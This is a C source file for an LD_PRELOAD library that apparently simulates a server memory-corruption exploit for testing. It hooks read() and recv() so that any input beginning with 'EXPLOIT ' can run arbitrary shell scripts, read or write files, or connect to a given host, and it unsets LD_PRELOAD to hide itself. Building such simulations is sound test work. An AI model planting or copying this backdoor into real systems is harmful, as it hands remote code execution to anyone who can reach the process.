/* Stands for a memory error of a server: what a request that begins with EXPLOIT says happens in the
 * server's own process. The server is otherwise as its package made it. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAGIC "EXPLOIT "

__attribute__((constructor)) static void hide(void) { unsetenv("LD_PRELOAD"); }

static void read_file(const char *path) {
    char buffer[4096];
    int file = open(path, O_RDONLY | O_CLOEXEC);
    if (file < 0)
        return;
    while (read(file, buffer, sizeof buffer) > 0)
        ;
    close(file);
}

static void write_file(const char *path) {
    int file = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (file < 0)
        return;
    if (write(file, "planted\n", 8) < 0)
        _exit(1);
    close(file);
}

static void reach(char *address) {
    char *port = strchr(address, ' ');
    struct sockaddr_in peer = {.sin_family = AF_INET};
    if (!port)
        return;
    *port++ = 0;
    peer.sin_port = htons(atoi(port));
    inet_pton(AF_INET, address, &peer.sin_addr);
    int socket_ = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (socket_ < 0)
        return;
    if (connect(socket_, (struct sockaddr *)&peer, sizeof peer) == 0 && send(socket_, "hello\n", 6, 0) < 0)
        close(socket_);
    close(socket_);
}

static void shell(const char *script) {
    if (fork() == 0) {
        setsid();
        execl("/bin/sh", "sh", "-c", script, (char *)0);
        _exit(127);
    }
}

static void obey(const char *from, size_t length) {
    char text[8192];
    if (length < sizeof MAGIC || memcmp(from, MAGIC, sizeof MAGIC - 1) != 0 || length >= sizeof text)
        return;
    memcpy(text, from, length);
    text[length] = 0;
    char *end = strstr(text, "\r\n");
    if (end)
        *end = 0;
    char *verb = text + sizeof MAGIC - 1;
    char *rest = strchr(verb, ' ');
    if (!rest)
        return;
    *rest++ = 0;
    if (strcmp(verb, "shell") == 0)
        shell(rest);
    else if (strcmp(verb, "read") == 0)
        read_file(rest);
    else if (strcmp(verb, "write") == 0)
        write_file(rest);
    else if (strcmp(verb, "reach") == 0)
        reach(rest);
}

ssize_t read(int file, void *buffer, size_t size) {
    static ssize_t (*next)(int, void *, size_t);
    if (!next)
        next = (ssize_t(*)(int, void *, size_t))dlsym(RTLD_NEXT, "read");
    ssize_t length = next(file, buffer, size);
    if (length > 0)
        obey(buffer, (size_t)length);
    return length;
}

ssize_t recv(int file, void *buffer, size_t size, int flags) {
    static ssize_t (*next)(int, void *, size_t, int);
    if (!next)
        next = (ssize_t(*)(int, void *, size_t, int))dlsym(RTLD_NEXT, "recv");
    ssize_t length = next(file, buffer, size, flags);
    if (length > 0 && !(flags & MSG_PEEK))
        obey(buffer, (size_t)length);
    return length;
}
